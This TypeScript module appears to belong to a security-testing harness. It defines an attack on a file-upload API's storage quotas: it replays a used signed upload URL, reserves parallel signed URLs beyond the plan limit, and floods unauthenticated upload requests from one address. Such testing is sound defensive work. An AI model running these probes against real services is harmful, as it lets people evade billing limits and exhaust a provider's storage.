import { setTimeout as wait } from 'node:timers/promises';
import { anEmail, signIn } from '../fixtures/accounts/accounts.ts';
import { ask, somebody } from '../fixtures/clouds/client.ts';
import { aForm } from '../fixtures/uploads/multipart.ts';
import { putTo } from '../fixtures/projects/put.ts';
import type { Attack, AttackResult, Target } from './attack.ts';

const mebibyte = 1024 * 1024;

/** Keeps bytes in storage that no quota counts: in uploads that are never used, and in used ones. */
export const storeBeyondThePlan: Attack = {
  title: 'Storage outside the quota: signed URLs beyond the plan, and URLs of used uploads',
  async run(target) {
    const result: AttackResult = { requests: 0, observed: [], gained: [] };
    const key = await signIn(anEmail(), target.baseUrl);
    await replayUsedUpload(target, key, result);
    await reserveUrls(target, key, result);
    await reserveAsStranger(target, result);
    return result;
  },
};

async function send(
  { baseUrl }: Target,
  result: AttackResult,
  path: string,
  {
    key,
    body,
    from,
    type = 'application/json',
  }: {
    key?: string;
    body?: string | Buffer;
    from?: string;
    type?: string;
  },
) {
  result.requests += 1;
  return ask(`${baseUrl}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      ...(body === undefined ? {} : { 'content-type': type }),
      ...(key === undefined ? {} : { authorization: `Bearer ${key}` }),
    },
    ...(body === undefined ? {} : { body }),
    ...(from === undefined ? {} : { from }),
  });
}

/** As many URLs for the largest upload of the plan as are given. */
async function reserveUrls(target: Target, key: string, result: AttackResult): Promise<void> {
  const user = await send(target, result, '/v1/user', { key });
  const plan = Number(user.json.data.plan.limits.maxStorageBytes);
  const size = 500 * mebibyte;
  let reserved = 0;
  let codes = new Set<string>();
  for (let round = 0; round < 5 && new Date() < target.until; round += 1) {
    const body = JSON.stringify({ archive: { size } });
    const answers = await Promise.all(
      Array.from({ length: 8 }, () => send(target, result, '/v1/uploads', { key, body })),
    );
    reserved += answers.filter(({ status }) => status === 201).length * size;
    codes = new Set([
      ...codes,
      ...answers.map(({ status, json }) => `${status} ${json.code ?? ''}`),
    ]);
  }
  const told = `${reserved / mebibyte} MiB of signed URLs on a plan of ${plan / mebibyte} MiB`;
  result.observed.push(`${told} (${[...codes].map((code) => code.trim()).join(', ')})`);
  if (reserved > plan) result.gained.push(told);
}

/** Publishes an upload and sends bytes to its URL again, whose signature still holds. */
async function replayUsedUpload(target: Target, key: string, result: AttackResult): Promise<void> {
  const bytes = Buffer.alloc(mebibyte, 'a');
  const body = JSON.stringify({ files: [{ path: 'a.txt', size: bytes.length }] });
  const begun = await send(target, result, '/v1/uploads', { key, body });
  const { uploadId, parts } = begun.json.data;
  const url = String(parts[0].url);
  result.requests += 1;
  const first = await putTo(url, bytes);
  const form = aForm([
    { name: 'title', body: 'Attack' },
    { name: 'uploadId', body: uploadId },
  ]);
  const published = await send(target, result, '/v1/projects', {
    key,
    body: form.body,
    type: form.contentType,
  });
  if (first !== 200 || published.status !== 201) {
    throw new Error(`The upload was not published: ${first}, ${published.status}.`);
  }
  // What removes late bytes may need a moment; what refuses them does not.
  await wait(500);
  result.requests += 1;
  const again = await putTo(url, bytes);
  result.observed.push(`PUT to the URL of a used upload answered ${again}`);
  if (again < 300) result.gained.push('1 MiB was stored by the URL of a used upload');
}

/** The same without a key, where an address may have 2 MiB in an upload. */
async function reserveAsStranger(target: Target, result: AttackResult): Promise<void> {
  const from = somebody();
  const body = JSON.stringify({ archive: { size: 2 * mebibyte } });
  const answers = await Promise.all(
    Array.from({ length: 60 }, () => send(target, result, '/v1/uploads', { body, from })),
  );
  const given = answers.filter(({ status }) => status === 201).length;
  result.observed.push(`${given} of 60 uploads were given to one IP address without an account`);
  if (given > 30) result.gained.push(`${given * 2} MiB of signed URLs for one IP address`);
}
